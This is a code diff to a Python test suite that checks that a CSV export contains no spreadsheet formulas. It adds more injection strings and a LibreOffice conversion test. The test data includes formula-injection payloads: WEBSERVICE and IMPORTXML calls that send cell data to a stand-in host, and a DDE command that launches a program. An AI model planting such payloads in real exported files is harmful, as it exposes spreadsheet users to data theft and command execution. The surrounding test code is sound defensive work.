@@ -15,6 +15,7 @@ import json
 import os
 import pty
 import re
+import shutil
 import struct
 import subprocess
 import sys
@@ -25,6 +26,7 @@ import pytest
 
 from tests.bulk.small_server import Answer, SmallServer
 from tests.cli.conftest import inside, launch, servetel
+from tests.sinks.spreadsheets import QUOTES, SEPARATORS, SIGNS, UNSEEN, cells, is_formula, without_guards
 from tests.torture.report import TORTURE, measured
 from tests.transport.conftest import connect, loop_log, stack
 from tests.transport.leaks import TOKEN
@@ -41,12 +43,6 @@ FORMULAS = (
     'IMPORTXML(CONCAT("http://x.example/",A1),"//a")',
     'WEBSERVICE("http://x.example/"&A1)',
     'DDE("cmd";"/C calc";"!A0")',
-)
-#: What a spreadsheet takes for the beginning of a formula, and what it may not see before it.
-SIGNS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
-UNSEEN = (
-    *("\t", "\r", "\n", "\0", "\r\n", "\t\t", "\x1f", "\x1e", "\x1d", "\x1c", "\x0b", "\x0c", "\x01", "\x08", "\x7f"),
-    *("\x85", "\x9f", "\u200b", "\u200e", "\u200f", "\u202e", "\u2060", "\u2066", "\ufeff", "\xad", "\u061c"),
 )
 TERMINAL = (
     *(chr(code) for code in (*range(0x20), *range(0x7F, 0xA0))),
@@ -102,6 +98,12 @@ TEXTS = tuple(
                 "a\r\n=1",
                 "a\n=1,=1",
                 '"\r\n=1',
+                *(
+                    f"x{separator}{quote}{sign}1+1"
+                    for separator in ",;|\t\r\n"
+                    for quote in ("", '"', "'")
+                    for sign in SIGNS[:5]
+                ),
             ),
             *TERMINAL,
             *(text + "=1" for text in TERMINAL[-12:]),
@@ -128,12 +130,6 @@ def test_there_are_two_hundred_texts():
 
 
 # Spreadsheets --------------------------------------------------------------------------------------------------------------
-
-
-def is_formula(cell):
-    """The rule of the CSV injection guides, after what a spreadsheet may not see. A plain number is no formula."""
-    seen = cell.lstrip("".join(UNSEEN) + "\u2400")
-    return seen[:1] in SIGNS and re.fullmatch(r"[+-]?\d+(\.\d+)?", cell) is None
 
 
 def call(number):
@@ -166,7 +162,7 @@ def hostile_calls():
 
 
 async def pulled(connect, path):
-    """A pull of calls whose every text is hostile; gives the rows of the file."""
+    """A pull of calls whose every text is hostile; gives the rows of the file, as its own separators give them."""
     async with SmallServer(hostile_calls(), hostile) as server:
         receipt = await connect(server.base_url, page_size=1000).pull(path, DAY, DAY)
     assert receipt.complete
@@ -180,17 +176,21 @@ async def test_no_cell_is_a_formula(connect, tmp_path):
     """Of a pull into CSV, in fields of every kind: 0 formulas, every number as it came, every text still to be read."""
     rows = await pulled(connect, tmp_path / "calls.csv")
 
-    formulas = [cell for row in rows for cell in row.values() if is_formula(cell)]
+    data = (tmp_path / "calls.csv").read_bytes()
+    readings = [(separators, quote) for separators in SEPARATORS.values() for quote in QUOTES.values()]
+    seen = [cell for reading in readings for cell in cells(data, *reading)]
+    formulas = [cell for cell in seen if is_formula(cell)]
     changed = 0
     for row in rows:
         number = int(row["id"].removeprefix("call-"))
         changed += row["client_number"] != NUMBERS[number % len(NUMBERS)]
         text = TEXTS[number].encode("utf-16", "surrogatepass").decode("utf-16", "replace").replace("\0", "\u2400")
         for name in FIELDS:
-            assert row[name] in (text, f"'{text}"), (name, row[name])
+            assert without_guards(row[name]) == without_guards(text), (name, row[name])
     measured(
         "P14",
-        f"{len(TEXTS)} hostile texts in {sum(map(len, rows)):,} cells of a CSV file: {len(formulas)} formulas, "
+        f"{len(TEXTS)} hostile texts in a CSV file, read with {len(readings)} pairs of separators and quotes into "
+        f"{len(seen):,} cells: {len(formulas)} formulas, "
         f"{changed} of {len(rows)} numbers changed",
     )
     assert (formulas, changed) == ([], 0)
@@ -206,6 +206,30 @@ async def test_a_workbook_made_of_it_has_no_formula(connect, tmp_path):
     for row in rows:
         sheet.append([openpyxl.cell.cell.ILLEGAL_CHARACTERS_RE.sub("", cell) for cell in row.values()])
     assert [cell.value for cells in sheet.iter_rows() for cell in cells if cell.data_type == "f"] == []
+
+
+@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
+@pytest.mark.parametrize("separators", ["44", "59", "9", "44/59/9", "124"])
+@pytest.mark.parametrize("quote", ["34", "39", ""])
+async def test_libreoffice_finds_no_formula(separators, quote, connect, tmp_path):
+    """It is told to evaluate formulas, which it does not by itself, and to split at each separator."""
+    import openpyxl
+
+    await pulled(connect, tmp_path / "calls.csv")
+    (tmp_path / "seen.csv").write_bytes(b"=1+1\r\n")
+    tokens = f"CSV:{separators},{quote},76,1,,0,false,true,false,false,false,0,true"
+    command = ["soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--norestore"]
+    convert = ["--convert-to", "xlsx", "--outdir", str(tmp_path), f"--infilter={tokens}"]
+    files = [str(tmp_path / name) for name in ("calls.csv", "seen.csv")]
+    done = await asyncio.to_thread(subprocess.run, [*command, *convert, *files], capture_output=True, timeout=55)
+    assert done.returncode == 0, done.stderr
+
+    def formulas(name):
+        sheet = openpyxl.load_workbook(tmp_path / name).active
+        return [cell.value for cells in sheet.iter_rows() for cell in cells if cell.data_type == "f"]
+
+    assert formulas("seen.xlsx") == ["=1+1"]
+    assert formulas("calls.xlsx") == []
 
 
 def test_the_rule_knows_formulas():
